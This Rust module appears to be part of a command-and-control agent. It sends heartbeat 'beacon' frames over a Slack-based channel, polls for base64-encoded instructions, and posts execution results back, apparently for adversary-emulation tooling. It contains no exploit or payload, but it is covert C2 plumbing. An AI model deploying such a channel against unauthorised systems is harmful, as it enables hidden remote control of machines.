//! Heartbeat and result reporting
//!
//! A beacon cycle posts the serialized profile as a `"beacon"` frame, then
//! polls a bounded number of times for an `"instructions"` frame addressed
//! to this agent. A cycle with no instructions is a normal outcome, not an
//! error.

use bytes::Bytes;
use palaver_proto::{frame, AgentProfile, ExecutionResult, Frame, ResultEnvelope};
use tokio::time::sleep;
use tracing::{debug, warn};

use crate::channel::{SlackChannel, BEACON_KIND, INSTRUCTIONS_KIND, RESULTS_KIND};
use crate::error::ChannelError;
use crate::transport::Transport;

impl<T: Transport> SlackChannel<T> {
    /// Run one heartbeat/poll cycle.
    ///
    /// Returns `Ok(None)` when every poll attempt came back empty; the host
    /// beacons again after its sleep interval.
    pub(crate) async fn run_beacon(
        &self,
        profile: &AgentProfile,
    ) -> Result<Option<Bytes>, ChannelError> {
        if !profile.has_identity() {
            return Err(ChannelError::MissingIdentity);
        }
        self.sleep_guard(profile).await;

        let heartbeat = Frame::new(BEACON_KIND, &profile.paw, profile.to_bytes()?);
        self.post_frame(&heartbeat, None).await?;
        debug!("Posted heartbeat for agent {}", profile.paw);

        for attempt in 1..=self.config.max_poll_attempts {
            // A failed history read counts as an empty attempt rather than
            // ending the cycle.
            let contents = match self.fetch_inline(INSTRUCTIONS_KIND, &profile.paw).await {
                Ok(contents) => contents,
                Err(err) => {
                    warn!("Instruction poll attempt {} failed: {}", attempt, err);
                    Vec::new()
                }
            };

            if let Some(encoded) = contents.first() {
                debug!("Received instructions on attempt {}", attempt);
                return Ok(Some(frame::decode_base64(encoded)?));
            }

            if attempt < self.config.max_poll_attempts {
                sleep(self.config.poll_wait).await;
            }
        }

        warn!(
            "No instructions for agent {} after {} attempts",
            profile.paw, self.config.max_poll_attempts
        );
        Ok(None)
    }

    /// Post this cycle's execution results as a `"results"` frame
    pub(crate) async fn report_results(
        &self,
        profile: &AgentProfile,
        results: Vec<ExecutionResult>,
    ) -> Result<(), ChannelError> {
        if !profile.has_identity() {
            return Err(ChannelError::MissingIdentity);
        }

        let envelope = ResultEnvelope::new(profile.clone(), results);
        let frame = Frame::new(RESULTS_KIND, &profile.paw, envelope.to_bytes()?);
        self.post_frame(&frame, None).await?;
        debug!("Reported results for agent {}", profile.paw);
        Ok(())
    }

    /// When the beacon cadence equals the request timeout, the heartbeat and
    /// the server's reply race; stagger them with a short extra delay.
    async fn sleep_guard(&self, profile: &AgentProfile) {
        if profile.sleep_seconds == self.config.request_timeout.as_secs() {
            debug!(
                "Sleep interval collides with request timeout, delaying {}s",
                self.config.guard_delay.as_secs()
            );
            sleep(self.config.guard_delay).await;
        }
    }
}
